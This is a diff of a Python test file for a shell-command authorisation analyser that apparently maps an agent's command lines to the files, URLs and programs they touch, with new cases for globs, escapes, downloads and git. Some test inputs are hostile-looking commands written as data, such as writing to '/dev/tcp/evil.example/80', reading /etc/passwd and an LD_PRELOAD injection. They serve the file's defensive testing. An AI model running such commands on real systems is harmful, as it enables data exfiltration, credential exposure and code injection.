@@ -4,13 +4,15 @@ In the tables `?` stands behind a program that is not known, `/**` behind a tree
 that a person has to look at.
 """
 
+import gc
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from authz.core.canonical.shell import ShellAccess, analyse_shell
 from authz.core.canonical.shell.syntax import MAX_LINE_BYTES
-from authz.model.resource import Base, NotCanonical, Verb
+from authz.model.resource import Base, NotCanonical, Scope, Verb
 
 BASE = Base(cwd="/w", home="/home/agent")
 
@@ -31,7 +33,8 @@ def _shown(access: ShellAccess) -> str:
         return "opaque"
     if entity.type == "Program":
         return f"{entity.id}{'' if entity.attributes['known'] else '?'}"
-    return f"{access.verb} {entity.id}{'/**' if access.scope == 'tree' else ''}"
+    beneath = "/**" if access.pattern is None else f"/{access.pattern.text}"
+    return f"{access.verb} {entity.id}{beneath if access.scope == 'tree' else ''}"
 
 
 UNDERSTOOD: list[tuple[str, set[str]]] = [
@@ -47,9 +50,20 @@ UNDERSTOOD: list[tuple[str, set[str]]] = [
     ),
     ("cat file:///etc/passwd", {"cat", "read /w/file:/etc/passwd"}),
     ("rm {a,b}.txt", {"rm", "delete /w/a.txt", "delete /w/b.txt"}),
-    ("cat *.md", {"cat", "read /w", "read /w/**"}),
-    ("cat sub/*/x", {"cat", "read /w/sub/**"}),
+    ("cat *.md", {"cat", "read /w", "read /w/*.md"}),
+    ("cat sub/*/x", {"cat", "read /w/sub", "read /w/sub/*/x"}),
+    ("cat */*.md", {"cat", "read /w", "read /w/*", "read /w/*/*.md"}),
+    ("grep -r x */", {"grep", "read /w", "read /w/*/**"}),
+    ("cat src/**/*.py", {"cat", "read /w/src", "read /w/src/**", "read /w/src/**/*.py"}),
+    ("rm -r build/*.o", {"rm", "read /w/build", "delete /w/build/*.o/**"}),
+    ("cat [ab].md ?.tx[t] a[", {"cat", "read /w", "read /w/*.md", "read /w/?.tx*", "read /w/a*"}),
+    ("cat {a,b}*.md", {"cat", "read /w", "read /w/a*.md", "read /w/b*.md"}),
+    ('for f in *.md; do cat "$f"; done', {"cat", "read /w", "read /w/*.md"}),
     ("cat -- -rf", {"cat", "read /w/-rf"}),
+    (
+        "cat a\\ b c\\*d \\~/e f\\ g*",
+        {"cat", "read /w", "read /w/a b", "read /w/c*d", "read /w/~/e", "read /w/*"},
+    ),
     ("x=a; cat $x", {"cat", "read /w/a"}),
     ('x="a b"; cat "$x"', {"cat", "read /w/a b"}),
     ("echo $((1+2)) $USER", {"echo"}),
@@ -75,7 +89,7 @@ UNDERSTOOD: list[tuple[str, set[str]]] = [
     ),
     ('while read l; do cat "a"; done < in', {"read", "cat", "read /w/a", "read /w/in"}),
     ("for f in a 'b c'; do rm \"$f\"; done", {"rm", "delete /w/a", "delete /w/b c"}),
-    ("for f in *.txt; do cat $f; done", {"cat", "read /w", "read /w/**"}),
+    ('for f in *.txt; do cat "$f.old"; done', {"cat", "read /w", "read /w/*.txt.old"}),
     ("case $x in a|b) cat a;; *) rm b;; esac", {"cat", "read /w/a", "rm", "delete /w/b"}),
     ("f() { rm x; }; f", {"rm", "delete /w/x"}),
     ("[[ -f a && $x == b* ]] || rm y", {"[[", "rm", "delete /w/y"}),
@@ -108,7 +122,10 @@ UNDERSTOOD: list[tuple[str, set[str]]] = [
     ("cd app && git status | head -5", {"cd", "read /w/app", "git/status", "head"}),
     ("git -C sub add x", {"git/add", "read /w/sub/x/**", "write /w/sub"}),
     # Programs that run programs.
-    ("env -u X A=1 nohup timeout 5 rm x", {"env", "nohup?", "timeout?", "rm?", "delete /w/x"}),
+    (
+        "env -u X A=1 nohup timeout 5 rm x",
+        {"env", "nohup?", "write /w/nohup.out", "timeout?", "rm?", "delete /w/x"},
+    ),
     ("env LANG=C rm x", {"env", "rm", "delete /w/x"}),
     ("nice -n 5 ionice -c 2 rm x", {"nice", "ionice", "rm", "delete /w/x"}),
     ("sh -c 'cat a; rm b'", {"sh", "cat", "read /w/a", "rm", "delete /w/b"}),
@@ -126,6 +143,26 @@ UNDERSTOOD: list[tuple[str, set[str]]] = [
     ("find a -delete", {"find", "read /w/a/**", "delete /w/a/**"}),
     ("xargs -a list echo", {"xargs", "read /w/list", "echo"}),
     ("watch -n 1 cat a", {"watch", "cat", "read /w/a"}),
+    # Names of their own for what they write.
+    ("nohup rm x", {"nohup", "write /w/nohup.out", "rm", "delete /w/x"}),
+    (
+        "curl -O https://example.com/a.txt",
+        {"curl", "connect https://example.com/a.txt", "read https://example.com/a.txt", "write /w/a.txt"},
+    ),
+    (
+        "curl -OJ https://example.com/a.txt",
+        {
+            *("curl", "connect https://example.com/a.txt", "read https://example.com/a.txt"),
+            *("write /w/*", "write /w/.*"),
+        },
+    ),
+    (
+        "wget -q --max-redirect=0 https://example.com/a.txt",
+        {
+            *("wget", "connect https://example.com/a.txt", "read https://example.com/a.txt"),
+            *("write /w/a.txt", "write /w/a.txt.*", "write /home/agent/.wget-hsts"),
+        },
+    ),
     # Options that write.
     ("sort a -o b", {"sort", "read /w/a", "write /w/b"}),
     ("tee a b", {"tee", "write /w/a", "write /w/b"}),
@@ -193,6 +230,19 @@ ASKED: list[tuple[str, set[str]]] = [
     ("rm -rf $(cat list)", {"rm?", "cat", "read /w/list"}),
     ("cat ~bob/x", {"cat?"}),
     ("$x a", set()),
+    ("cat {a,b}\\c", set()),
+    # A name that matches may hold a command.
+    ("watch cat *", {"watch?"}),
+    ("flock lock -c *", {"flock?"}),
+    ('for v in {a,b}\\c; do cat "$v"; done', set()),
+    ("x={a,b}\\c cat y", set()),
+    ("cat >{a,b}\\c", set()),
+    ("cat {a\\ b,c}", {"cat?"}),
+    ("cat a\\*b*", {"cat?"}),
+    # A blank in the name makes several words of it, and any of them may be a pattern again.
+    ("for f in *.txt; do cat $f; done", {"cat?"}),
+    ("grep -r x .*", set()),
+    ("cat *.md/../x", set()),
     ("echo > $x", {"echo?"}),
     ("echo hi > /dev/tcp/evil.example/80", set()),
     ("/w/run.sh a", {"read /w/run.sh", "execute /w/run.sh"}),
@@ -250,7 +300,7 @@ def test_something_of_it_is_not_understood(line: str, expected: set[str]) -> Non
 @pytest.mark.parametrize(
     ("line", "expected"),
     [
-        ("runwith git add -A", {"runwith?", "git/add?", "read /w/**", "write /w"}),
+        ("runwith git add .", {"runwith?", "git/add?", "read /w", "read /w/**", "write /w"}),
         (
             "frob --out=/etc/x y.txt https://example.com/z",
             {
@@ -277,6 +327,77 @@ def test_a_program_that_is_not_known_is_guessed(line: str, expected: set[str]) -
     assert all(one.changes for one in accesses(line) if _shown(one).endswith("?"))
 
 
+IN_ROOT = Base(cwd="/w", root="/w")
+ALL_OF_W = {"write /w/**", "delete /w/**"}
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        # All of the work tree, wherever in it.
+        ("git checkout main", {"git/checkout", *ALL_OF_W}),
+        ("git checkout a.txt", {"git/checkout", *ALL_OF_W}),
+        ("git checkout -b new main", {"git/checkout", *ALL_OF_W}),
+        ("git switch main", {"git/switch", *ALL_OF_W}),
+        ("git reset --hard", {"git/reset", *ALL_OF_W}),
+        ("git merge topic", {"git/merge", *ALL_OF_W}),
+        ("git stash", {"git/stash", *ALL_OF_W}),
+        ("git add -A", {"git/add", "read /w/**", "write /w"}),
+        ("git commit -am x", {"git/commit", "read /w/**", "write /w"}),
+    ],
+)
+def test_git_on_the_whole_work_tree(line: str, expected: set[str]) -> None:
+    assert {_shown(one) for one in accesses(line, IN_ROOT)} == expected
+    # From a folder of it, or where no root is declared, nobody knows how far up the tree begins.
+    assert "opaque" in {_shown(one) for one in accesses(f"cd sub && {line}", IN_ROOT)}
+    assert "opaque" in {_shown(one) for one in accesses(line.replace("git", "git -C sub", 1), IN_ROOT)}
+    assert "opaque" in shown(line)
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("git checkout -b new", {"git/checkout", "write /w"}),
+        ("git switch -c new", {"git/switch", "write /w"}),
+        ("git reset a", {"git/reset", "write /w"}),
+        ("git stash list", {"git/stash", "read /w"}),
+        ("git checkout main -- a", {"git/checkout", "write /w", "write /w/a/**", "delete /w/a/**"}),
+        (
+            "git restore a ../b",
+            {"git/restore", "write /w"} | {f"{v} /{n}/**" for v in ("write", "delete") for n in ("w/a", "b")},
+        ),
+        ("git restore '*.c'", {"git/restore", "write /w", *ALL_OF_W}),
+        (
+            "git restore sub/*.c",
+            {"git/restore", "read /w/sub", "write /w", "write /w/sub/**", "delete /w/sub/**"},
+        ),
+        ("git rm -r 'a/*'", {"git/rm", "write /w", "delete /w/a/**"}),
+        ("git add 'a/*'", {"git/add", "write /w", "read /w/a/**"}),
+        # A pattern without a match is handed on, and git's own crosses folders.
+        ("git add sub/*.c", {"git/add", "read /w/sub", "write /w", "read /w/sub/**"}),
+        ("git clean -fd 'a/*'", {"git/clean", "delete /w/a/**"}),
+        ("git commit -m x a", {"git/commit", "read /w/a/**", "write /w"}),
+    ],
+)
+def test_git_on_what_is_named(line: str, expected: set[str]) -> None:
+    assert shown(line) == expected
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "git restore :/",
+        "git checkout -- ':!x'",
+        "git add :/",
+        "git rm ':(top)x'",
+        "git commit -m x :/",
+        "git restore",
+    ],
+)
+def test_git_on_magic_paths(line: str) -> None:
+    assert "opaque" in shown(line)
+
+
 def test_a_name_that_is_known_once_and_once_not_is_not_known() -> None:
     assert "git/status?" in shown("git status; LD_PRELOAD=x git status")
 
@@ -288,6 +409,30 @@ def test_code_may_run_where_the_runtime_confines_it(line: str) -> None:
     assert any(one.changes or one.resource.kind == "path" for one in accesses(line, confined=True))
     assert "opaque" in shown(line)
     assert "opaque" not in shown(line, confined=True)
+
+
+def test_accesses_come_in_one_order_wherever_the_line_may_be() -> None:
+    # What approvals and operations are bound to is a digest of them, on every replica.
+    found = accesses("cd a; cd b; cat f > g; ls *.x")
+    for name in ("f", "g"):
+        uris = [one.resource.uri for one in found if one.resource.uri.endswith(f"/{name}")]
+        assert uris == [f"file:///w/{below}{name}" for below in ("", "a/", "a/b/", "b/")], name
+    looked_in = [one.resource.uri for one in found if one.scope is Scope.TREE]
+    assert looked_in == ["file:///w", "file:///w/a", "file:///w/a/b", "file:///w/b"]
+
+
+@pytest.mark.parametrize(
+    "line", ["cd a && git diff x | head -2 > o", 'bash -c "cat x"', "for f in *; do rm $f; done"]
+)
+def test_a_line_leaves_nothing_to_the_garbage_collector(line: str) -> None:
+    # Trees and walks that only the collector finds cost every line a part of its time.
+    gc.collect()
+    gc.disable()
+    try:
+        accesses(f"{line} # once")
+        assert gc.collect() == 0
+    finally:
+        gc.enable()
 
 
 def test_in_a_directory_that_nobody_knows() -> None:
